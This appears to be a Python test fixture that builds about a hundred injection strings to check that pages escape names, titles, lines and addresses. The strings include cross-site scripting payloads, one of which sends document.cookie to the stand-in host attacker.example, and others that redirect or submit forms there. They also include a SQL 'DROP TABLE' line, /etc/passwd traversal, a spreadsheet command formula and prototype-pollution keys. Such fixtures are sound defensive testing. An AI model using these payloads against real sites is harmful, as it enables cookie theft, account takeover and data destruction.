"""A hundred strings that attack pages which show text as markup, in names, titles, lines and addresses."""

from __future__ import annotations

from collections.abc import Iterable, Iterator
from itertools import product
from typing import Any

from tests.pages import Story

_CALLS = ("window.hit=1", "alert(1)", "fetch('https://attacker.example/'+document.cookie)", "document.title='hit'")
_SHELLS = (
    "<script>{0}</script>",
    "</script><script>{0}</script>",
    "<img src=x onerror={0}>",
    '"><svg onload={0}>',
    "' onmouseover='{0}' style='position:fixed;inset:0",
    '<iframe srcdoc="<script>parent.{0}</script>"></iframe>',
    '<a href="javascript:{0}">a headline to press on</a>',
    "<body onload={0}>",
    "<details open ontoggle={0}>",
    "<input autofocus onfocus={0}>",
    "<math><mtext></mtext><mglyph><svg><mtext><style><img src=x onerror={0}></style></mtext></svg></math>",
    "--><script>{0}</script><!--",
    "]]><script>{0}</script><![CDATA[",
    "</textarea><script>{0}</script>",
    "</title><script>{0}</script>",
    "${{{0}}} `+{0}+`",
    "{{{{constructor.constructor('{0}')()}}}}",
    "\\u003cscript\\u003e{0}\\u003c/script\\u003e",
    "&lt;script&gt;{0}&lt;/script&gt;",
    "<scr\u0000ipt>{0}</scr\u0000ipt>",
)
_OTHERS = (
    '<meta http-equiv="refresh" content="0;url=https://attacker.example/">',
    '<base href="https://attacker.example/">',
    '<link rel="stylesheet" href="https://attacker.example/a.css">',
    "<style>*{display:none}</style>",
    '<form action="https://attacker.example/"><button autofocus>Send</button></form>',
    "<!-- a comment that is never closed",
    "</article></main></div></body></html>",
    "\u202egnp.exe a name that reads backwards\u202c",
    "a line \u2028 in two \u2029 parts \x85 or three",
    '{"__proto__": {"hit": 1}}',
    "%3Cscript%3Ewindow.hit=1%3C/script%3E",
    "=cmd|' /C calc'!A0",
    "\x1b]0;hit\x07\x1b[2J",
    "javascript:window.hit=1",
    "data:text/html,<script>window.hit=1</script>",
    "'; DROP TABLE articles; --",
    "../../../../etc/passwd",
    "constructor",
    "__proto__",
    "\ufeff\u200f\u2066 nothing but marks \u2069",
)

INJECTIONS = (*(shell.format(call) for shell, call in product(_SHELLS, _CALLS)), *_OTHERS)


def as_file_names(strings: Iterable[str]) -> Iterator[tuple[str, str]]:
    """Names of files, as far as a file system takes them, each with the string that it was made of."""
    for number, string in enumerate(strings):
        name = string.replace("/", "\u2215").replace("\x00", "")[:60]
        yield f"{number:03} {name}.txt", string


def as_titles(strings: Iterable[str], story: Story) -> list[dict[str, Any]]:
    """Records whose headline is the string, and whose address holds it."""
    return [
        {"text": story.text().replace(story.title, string), "url": f"https://{story.site}/{number}?q={string}"}
        for number, string in enumerate(strings)
    ]
